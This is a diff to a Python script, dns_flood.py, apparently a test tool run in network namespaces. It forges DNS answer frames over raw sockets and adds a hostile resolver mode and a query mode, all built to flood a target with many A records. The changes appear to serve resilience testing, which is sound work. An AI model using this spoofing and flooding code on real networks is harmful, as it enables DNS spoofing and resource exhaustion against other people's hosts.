@@ -1,10 +1,20 @@
 #!/usr/bin/env python3
-"""Forged DNS answers as whole Ethernet frames (AF_PACKET), from the attacker's namespace.
+"""DNS answers with many addresses, the ways a hostile device can make them.
 
-usage: dns_flood.py IFACE SRC_MAC DST_MAC SRC_IP DST_IP NAME COUNT PER_ANSWER FIRST_ADDR
-    COUNT answers from SRC_IP:53 to DST_IP:33333, each saying NAME has PER_ANSWER A records
-    (TTL 86400): consecutive IPv4 addresses from FIRST_ADDR on.  Prints how many were sent.
+usage:
+  dns_flood.py forge IFACE SRC_MAC DST_MAC SRC_IP DST_IP NAME COUNT PER_ANSWER FIRST_ADDR
+      (the attacker's namespace) COUNT forged answer frames (AF_PACKET) from SRC_IP:53 to
+      DST_IP:33333, each saying NAME has PER_ANSWER A records (TTL 86400): consecutive IPv4
+      addresses from FIRST_ADDR on.  Prints how many were sent.
+  dns_flood.py serve ADDR PER_ANSWER NET[,NET...]
+      (the upstream namespace) the attacker's own resolver on ADDR:53: answers every query
+      with PER_ANSWER A records for its name, the next PER_ANSWER addresses of the networks
+      each time (from the first again when all were given).
+  dns_flood.py ask SERVER NAME COUNT
+      (the attacker's namespace) COUNT ordinary queries of NAME at SERVER:53, one after the
+      other; prints how many were answered.
 """
+import random
 import ipaddress
 import socket
 import struct
@@ -40,8 +50,54 @@ def answer(ident, name, addrs):
     return msg
 
 
+def qname(msg):
+    i, labels = 12, []
+    while i < len(msg) and msg[i]:
+        labels.append(msg[i + 1:i + 1 + msg[i]].decode('ascii', 'replace'))
+        i += 1 + msg[i]
+    return '.'.join(labels)
+
+
+def serve(addr, per, nets):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((addr, 53))
+    pool = [a for n in nets.split(',') for a in ipaddress.IPv4Network(n)]
+    nxt = 0
+    while True:
+        msg, peer = sock.recvfrom(2048)
+        if len(msg) < 12:
+            continue
+        ident = struct.unpack('!H', msg[:2])[0]
+        addrs = [pool[(nxt + k) % len(pool)] for k in range(per)]
+        nxt += per
+        sock.sendto(answer(ident, qname(msg), addrs), peer)
+
+
+def ask(server, name, count):
+    answered = 0
+    for _ in range(count):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(2)
+        q = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0'
+        s.sendto(struct.pack('!HHHHHH', random.randint(0, 0xffff), 0x0100, 1, 0, 0, 0) + q +
+                 b'\0\1\0\1', (server, 53))
+        try:
+            s.recv(4096)
+            answered += 1
+        except OSError:
+            pass
+        s.close()
+    print(answered)
+
+
 def main():
-    iface, smac, dmac, sip, dip, name, count, per, first = sys.argv[1:10]
+    if sys.argv[1] == 'serve':
+        serve(sys.argv[2], int(sys.argv[3]), sys.argv[4])
+        return
+    if sys.argv[1] == 'ask':
+        ask(sys.argv[2], sys.argv[3], int(sys.argv[4]))
+        return
+    iface, smac, dmac, sip, dip, name, count, per, first = sys.argv[2:11]
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     sock.bind((iface, 0))
     addr = ipaddress.IPv4Address(first)
